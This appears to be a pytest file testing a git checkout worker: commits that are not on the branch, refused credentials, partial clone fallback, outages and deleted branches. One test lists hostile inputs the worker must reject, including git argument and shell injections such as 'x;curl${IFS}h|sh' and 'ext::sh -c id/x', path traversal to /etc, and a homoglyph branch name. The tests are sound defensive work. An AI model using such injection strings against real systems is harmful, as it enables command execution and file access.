"""The request and the checkout: hostile values, wrong commits, refused credentials, partial clones."""

from __future__ import annotations

import pytest

from tests.support.worker import Worker


@pytest.mark.parametrize("commit", ["0123456789" * 4, "f" * 40])
def test_commit_must_be_on_branch(worker: Worker, commit: str) -> None:
    finished = worker.run(COMMIT_SHA=commit)

    assert (finished.exit_code, finished.outcome) == (1, "CheckoutFailed")
    assert commit in finished.exports["OUTCOME_REASON"]


def test_other_branchs_commit_is_not_built(worker: Worker) -> None:
    worker.repository.git.commit("feature/other", {"other.txt": "1\n"}, "Other", base="main")

    finished = worker.run(COMMIT_SHA=worker.repository.git.head_of("feature/other") or "")

    assert finished.outcome == "CheckoutFailed"
    assert "is no longer on feature/discounts" in finished.exports["OUTCOME_REASON"]


def test_refused_credentials_fail_checkout(worker: Worker) -> None:
    worker.client("secretsmanager").put_secret_value(
        SecretId=worker.secrets["git-credentials"], SecretString='{"username":"git","password":"wrong-password"}'
    )

    finished = worker.run()

    assert finished.outcome == "CheckoutFailed"
    assert "the git credentials (kiro-worker-test-git-credentials)" in finished.exports["OUTCOME_REASON"]
    assert "aws secretsmanager put-secret-value" in finished.exports["OUTCOME_REASON"]
    assert finished.result["faultOwner"] == "installation"
    assert "wrong-password" not in finished.log


@pytest.mark.parametrize(
    ("variable", "value"),
    [
        ("BRANCH_NAME", "--upload-pack=touch /tmp/owned"),
        ("BRANCH_NAME", "x;curl${IFS}h|sh"),
        ("BRANCH_NAME", "-f"),
        ("BRANCH_NAME", "../../x"),
        ("BRANCH_NAME", "feature/dіscounts"),  # noqa: RUF001  # a Cyrillic letter, on purpose
        ("COMMIT_SHA", "HEAD"),
        ("DEFAULT_COMMIT_SHA", "HEAD"),
        ("DEFAULT_COMMIT_SHA", ""),
        ("COMMIT_SHA", "--output=x"),
        ("REPOSITORY", "acme/../other"),
        ("REPOSITORY", "ext::sh -c id/x"),
        ("SPEC_PATH", ".kiro/../../etc"),
        ("SPEC_PATH", "/etc"),
        ("LOCK_FENCE", "1e9"),
    ],
)
def test_hostile_variable_is_refused_by_name(worker: Worker, variable: str, value: str) -> None:
    finished = worker.run(**{variable: value})

    assert (finished.exit_code, finished.outcome) == (1, "WorkerFailed")
    assert finished.exports["OUTCOME_REASON"].startswith(f"WorkItemInvalid: {variable}")
    assert not worker.github.requests.git()


def test_unsupported_partial_clone_becomes_full(worker: Worker) -> None:
    worker.repository.git.run("config", "uploadpack.allowFilter", "false")

    finished = worker.run()

    assert finished.outcome == "Succeeded", finished.log


def test_broken_partial_clone_is_retried_in_full(worker: Worker) -> None:
    worker.github.faults.add("forbidden", "git-upload-pack")

    finished = worker.run()

    assert finished.outcome == "Succeeded", finished.log


def test_outage_at_checkout_is_the_services(worker: Worker) -> None:
    worker.github.faults.add("bad_gateway", "git-upload-pack", times=None)

    finished = worker.run()

    assert finished.outcome == "WorkerFailed"
    assert finished.exports["OUTCOME_REASON"].startswith("GitHubUnavailable: the branch feature/discounts of acme/shop")
    assert finished.result["faultOwner"] == "service"
    assert len(worker.github.requests.git("git-upload-pack")) == 4, "no other fetch mode is tried"


def test_deleted_branch_is_the_cards(worker: Worker) -> None:
    worker.repository.git.delete_branch("feature/discounts")

    finished = worker.run()

    assert finished.outcome == "CheckoutFailed"
    assert "couldn't find remote ref refs/heads/feature/discounts" in finished.exports["OUTCOME_REASON"]
    assert finished.result["faultOwner"] == "card"
